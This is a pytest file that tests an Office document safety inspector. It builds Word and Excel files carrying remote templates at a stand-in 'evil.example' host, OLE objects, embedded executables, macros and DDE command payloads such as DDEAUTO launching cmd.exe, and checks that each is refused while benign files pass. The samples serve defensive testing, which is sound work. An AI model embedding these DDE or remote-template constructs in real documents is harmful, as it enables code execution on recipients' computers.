"""Office files: what a part is decides. Good ones of unusual programs pass; what runs or fetches by itself does not."""

import io
import struct
import zipfile

import pytest

from ohmatdyt.core.filetypes import FileRefused, inspect
from tests.core import files
from tests.core.linear import MOST, growth
from tests.core.test_filetypes import refusal

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def rels(*relations: tuple[str, str, bool]) -> str:
    each = "".join(
        f'<Relationship Id="r{n}" Type="{RELS}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if external else "/>")
        for n, (kind, target, external) in enumerate(relations)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{each}</Relationships>'


def pointing(kind: str, target: str, *, external: bool = True) -> bytes:
    return files.docx({"word/_rels/document.xml.rels": rels((kind, target, external))})


def saying(body: str) -> bytes:
    return files.docx({"word/header1.xml": f"<w:hdr {W}>{body}</w:hdr>"})


def field(*pieces: str) -> str:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + end


HOSTILE = {
    "a template from the network": (pointing("attachedTemplate", "http://evil.example/x.dotm"), "шаблон"),
    "a template from a server": (pointing("attachedTemplate", "\\\\evil\\x.dotm"), "шаблон"),
    "a template by file address": (pointing("attachedTemplate", "file://evil/x.dotm"), "шаблон"),
    "a picture from a server": (pointing("image", "file:////evil/x.png"), "мережі"),
    "a linked object": (pointing("oleObject", "C:\\x.doc"), "OLE"),
    "an object": (pointing("oleObject", "embeddings/oleObject1.bin", external=False), "OLE"),
    "a control": (pointing("control", "activeX/activeX1.xml", external=False), "OLE"),
    "imported HTML": (pointing("aFChunk", "x.mht", external=False), "вкладений файл"),
    "a linked subdocument": (pointing("subDocument", "http://evil.example/x.docx"), "мережі"),
    "an OLE container": (files.docx({"word/embeddings/x.bin": files.compound({"Contents": b"x" * 5000})}), "OLE"),
    "an executable": (files.docx({"word/media/image1.png": b"MZ\x90\x00" + bytes(99)}), "вкладений файл"),
    "RTF": (files.docx({"word/x.rtf": b"{\\rtf1 x}"}), "вкладений файл"),
    "a zip": (files.docx({"word/embeddings/x.zip": files.archive({"x.exe": b"MZ"})}), "вкладений файл"),
    "a workbook with a macro": (
        files.docx({"word/embeddings/x.xlsx": files.xlsx({"xl/vbaProject.bin": b"x"})}), "макрос",
    ),
    "DDE": (saying(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), "DDE"),
    "DDE in pieces": (saying(field(" D", "DEA", "UTO cmd ")), "DDE"),
    "DDE in a simple field": (saying('<w:fldSimple w:instr="DDE cmd x"/>'), "DDE"),
    "a name made by a field": (
        saying('<w:fldChar w:fldCharType="begin"/>' + field(" QUOTE 68 68 69 ") + '<w:fldChar w:fldCharType="end"/>'),
        "DDE",
    ),
    "a DDE link": (files.xlsx({"xl/externalLinks/externalLink1.xml": "<x><ddeLink/></x>"}), "DDE"),
    "a DDE formula": (
        files.xlsx({"xl/worksheets/sheet1.xml": "<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>"}), "DDE",
    ),
    "a late document type": (files.docx({"word/x.xml": " " * 5000 + "<!DOCTYPE a><a/>"}), "DOCTYPE"),
    "one in another encoding": (files.docx({"word/x.xml": "<!DOCTYPE a><a/>".encode("utf-16-be")}), None),
    "a macro by another name": (
        files.docx({"word/_rels/document.xml.rels": rels(("vbaProject", "x.dat", False))}), "макрос",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_runs_or_fetches_by_itself_is_refused_and_named(name: str) -> None:
    data, word = HOSTILE[name]
    kind = "xlsx" if b"xl/workbook.xml" in data[:2000] else "docx"
    with pytest.raises(FileRefused) as caught:
        inspect(io.BytesIO(data), f"x.{kind}")
    assert caught.value.code == "unsafe_content"
    assert word is None or word in caught.value.detail("uk")


def types(*lines: str) -> str:
    return f'<Types xmlns="{PACKAGE}/content-types">{"".join(lines)}</Types>'


def default(extension: str, kind: str) -> str:
    return f'<Default Extension="{extension}" ContentType="{kind}"/>'


ROOT = rels(("officeDocument", "xl/workbook.xml", False))
WORD_ROOT = rels(("officeDocument", "/word/document.xml", False))
SHEETJS = types(
    default("bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    default("xml", "application/xml"),
    f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL_MAIN}"/>',
)
BACKSLASHED = {
    "[Content_Types].xml": files.WORD_TYPES,
    "_rels\\.rels": WORD_ROOT,
    "word\\document.xml": "<w:document/>",
}
GOOD = {
    "SheetJS": ("xlsx", files.xlsx({"_rels/.rels": ROOT, "xl/x.bin": b"1"}, SHEETJS)),
    ".NET, Word": ("docx", files.docx({"_rels/.rels": WORD_ROOT}, types(default("xml", WORD_MAIN)))),
    ".NET, Excel": ("xlsx", files.xlsx({"_rels/.rels": ROOT}, types(default("xml", EXCEL_MAIN)))),
    "backslashes": ("docx", files.archive(BACKSLASHED)),
    "strict": ("docx", files.docx({"_rels/.rels": WORD_ROOT.replace(RELS, "http://purl.oclc.org/ooxml/relationships")})),
    "a local template": ("docx", pointing("attachedTemplate", "file:///C:\\Users\\Олена\\Normal.dotm")),
    "a template by name": ("docx", pointing("attachedTemplate", "Normal.dotm")),
    "a link": ("docx", pointing("hyperlink", "http://ohmatdyt.com.ua/")),
    "a copied picture": ("docx", pointing("image", "https://ohmatdyt.com.ua/x.png")),
    "a link to a table": ("xlsx", files.xlsx({"xl/externalLinks/_rels/a.xml.rels": rels(
        ("externalLinkPath", "\\\\server\\звіти\\2026.xlsx", True))})),
    "a chart's table": ("docx", files.docx({"word/embeddings/x.xlsx": files.xlsx()})),
    "words": ("docx", saying("<w:t>DDEAUTO cmd | macroEnabled DOCTYPE oleObject</w:t>" + field(" PAGE "))),
    "fields in a field": ("docx", saying('<w:fldChar w:fldCharType="begin"/><w:instrText>IF </w:instrText>'
                                         + field("PAGE") + '<w:fldChar w:fldCharType="end"/>')),
    "a formula": ("xlsx", files.xlsx({"xl/worksheets/sheet1.xml":
                                      "<worksheet><c><f>\"a|b\"&amp;'c|d'!A1</f></c></worksheet>"})),
    "an icon": ("docx", files.docx({"word/media/image1.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>"})),
    "Word 6": ("doc", files.compound({"WordDocument": struct.pack("<H8xH", 0xA5DC, 0).ljust(5000, b"\x00")})),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_what_unusual_programs_write_is_taken(name: str) -> None:
    kind, data = GOOD[name]
    assert refusal(data, f"x.{kind}") is None


def test_a_macro_workbook_is_refused_however_its_type_is_declared() -> None:
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    assert (
        refusal(files.xlsx({"_rels/.rels": ROOT}, types(default("xml", macro))), "x.xlsx") == "unsafe_content"
    )


def test_old_files_with_packages_templates_or_dde_are_refused() -> None:
    package = files.compound({"WordDocument": files.word_stream(), "\x01Ole10Native": b"x" * 5000})
    assert refusal(package, "x.doc") == "unsafe_content"
    template = files.compound({"WordDocument": struct.pack("<H8xH", 0xA5DC, 1).ljust(5000, b"\x00")})
    assert refusal(template, "x.doc") == "unsafe_content"
    link = struct.pack("<HH", 0, 11) + b"\x00cmd\x03/c calc"
    assert (
        refusal(files.compound({"Workbook": files.excel_stream((0x01AE, link))}), "x.xls") == "unsafe_content"
    )
    other = struct.pack("<HH", 2, 11) + b"\x00\x01book.xls\x03"
    assert refusal(files.compound({"Workbook": files.excel_stream((0x01AE, other))}), "x.xls") is None


@pytest.mark.parametrize(
    "piece",
    [
        *(
            '<w:fldChar w:fldCharType="begin"/><w:instrText>A</w:instrText>',
            "<w:instrText>D</w:instrText>",
            "<f>'</f>",
        ),
        *("<a>", "&amp;", "<f>\"'</f>", '<w:fldSimple w:instr="D"/>', "\n"),
    ],
)
def test_time_grows_linearly_with_whatever_is_repeated(piece: str) -> None:
    def made(size: int) -> bytes:
        out = io.BytesIO(files.docx())
        with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
            archive.writestr("word/header1.xml", f"<w:hdr {W}>" + piece * (size // len(piece)))
        return out.getvalue()

    assert growth(lambda data: refusal(data, "x.docx"), made, size=60_000) < MOST
